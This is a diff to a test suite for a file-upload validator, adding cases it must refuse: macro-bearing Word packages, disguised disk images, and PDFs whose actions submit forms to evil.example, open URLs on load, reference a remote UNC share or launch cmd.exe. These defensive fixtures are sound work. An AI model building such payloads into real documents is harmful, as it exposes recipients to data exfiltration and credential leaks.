@@ -101,13 +101,17 @@ describe('whoever wants a document to fetch or run something when it is opened, 
       {
         ...word,
         '[Content_Types].xml': `<t:Types xmlns:t="${package2006}/content-types"><t:Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><t:Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.&#118;baProject"/></t:Types>`,
+        'word/a.dat': 'x',
       },
     ],
     [
       'a type with macros',
-      wordTypes(
-        '<Override PartName="/word/b.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
-      ),
+      {
+        ...wordTypes(
+          '<Override PartName="/word/b.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
+        ),
+        'word/b.xml': '<a/>',
+      },
     ],
     [
       'a control reached by a relation only',
@@ -193,6 +197,15 @@ describe('whoever wants a file to land elsewhere, or a program to arrive in a zi
     ['another name in front', { name: 'b.txt', localName: 'b.exe', content: 'x' }],
     ['another name in an extra field', { name: 'b.txt', content: 'x', extra: unicodePath('../../b.txt') }],
     ['a program', { name: '资料/安装.EXE', content: 'x' }],
+    ['a disk image', { name: '资料.iso', content: 'x' }],
+    [
+      'a disk image under another ending',
+      {
+        name: '资料.jpg',
+        content: Buffer.concat([Buffer.alloc(32_769), Buffer.from('CD001'), Buffer.alloc(4000)]),
+      },
+    ],
+    ['a package of Windows', { name: 'a.msix', content: 'x' }],
     ['a program with a dot behind', { name: 'a.exe.', content: 'x' }],
     [
       'a program under another ending',
@@ -238,6 +251,34 @@ describe('whoever wants a PDF to run or carry something, is refused', () => {
       'a name apart from its action',
       () => pdfOf({ 1: root, ...pages, 5: '<< /S 6 0 R >>', 6: '/JavaScript' }),
     ],
+    ['a form that is sent somewhere', () => of('<< /S /SubmitForm /F (https://evil.example/x) >>')],
+    [
+      'an address that a page opens by itself',
+      () =>
+        pdfOf({
+          1: root,
+          2: pages[2],
+          3: '<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (https://evil.example) >> >> >>',
+        }),
+    ],
+    [
+      'actions of a page that stand elsewhere',
+      () =>
+        pdfOf({ 1: root, 2: pages[2], 3: '<< /Type /Page /Parent 2 0 R /AA 6 0 R >>', 6: '<< /O 7 0 R >>' }),
+    ],
+    [
+      'a document on another machine',
+      () => of('<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'),
+    ],
+    [
+      'a document on another machine, in its own object and in hex',
+      () => of(packedObjects({ 5: '<< /Type /Filespec /UF <FEFF005C005C006500760069006C> >>' })),
+    ],
+    ['a link into the network of files', () => of('<< /S /URI /URI (file://evil/share) >>')],
+    [
+      'files carried along, of which none is there',
+      () => pdfOf({ 1: '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 9 0 R >> >>', ...pages }),
+    ],
     ['a program to start', () => of(packedObjects({ 5: '<< /S /Launch /F (cmd.exe) >>' }))],
     ['a file carried along', () => of(streamOf('/Type /Embedded#46ile', Buffer.from('MZ')))],
     ['a form with scripts', () => of(packedObjects({ 5: '<< /XFA [(a) 9 0 R] >>' }))],
@@ -280,7 +321,50 @@ describe('whoever wants a PDF to run or carry something, is refused', () => {
   ])('%s', (_, made) => refused('证书.pdf', made()))
 })
 
+describe('whoever sends what the portal does not take, hears what to do', () => {
+  const heic = Buffer.concat([
+    Buffer.from([0, 0, 0, 24]),
+    Buffer.from('ftypheic\0\0\0\0mif1heic'),
+    Buffer.alloc(200),
+  ])
+  it('HEIC of a phone', () => refused('照片.heic', heic, /另存（导出）为 JPG/))
+  it('OFD of an office', () =>
+    refused(
+      '公文.ofd',
+      zipOfParts({ 'OFD.xml': '<a/>', 'Doc_0/Document.xml': '<a/>' }),
+      /转换（另存）为 PDF/,
+    ))
+  it('a document with the slash of Windows', () =>
+    refused(
+      'a.docx',
+      zipOfParts(
+        Object.fromEntries(Object.entries(word).map(([name, text]) => [name.replaceAll('/', '\\'), text])),
+      ),
+      /反斜杠/,
+    ))
+})
+
 describe('what people really have', () => {
+  it('is taken: documents of the Open XML SDK, lists of types that no part has, ordinary links of a PDF', async () => {
+    const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
+    const root =
+      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="/word/document.xml"/></Relationships>'
+    const types = `<Types xmlns="${package2006}/content-types"><Default Extension="xml" ContentType="${main}"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`
+    const sdk = zipOfParts({ ...word, '[Content_Types].xml': types, '_rels/.rels': root })
+    expect(await upload('a.docx', sdk)).toMatchObject({
+      msg: 'ok',
+      data: { mime: expect.stringMatching(/wordprocessingml/) },
+    })
+    const linked = pdfOf({
+      1: '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
+      ...pages,
+      4: '<< /S /URI /URI (https://example.com//a) >>',
+      5: '<< /S /GoToR /F (next.pdf) /D [0 /Fit] >>',
+      6: '<< /Font << /AA 7 0 R >> >>',
+    })
+    expect(await upload('a.pdf', linked)).toMatchObject({ msg: 'ok' })
+  })
+
   it.each([
     ['notice.docx', /wordprocessingml/],
     ['charts.docx', /wordprocessingml/],
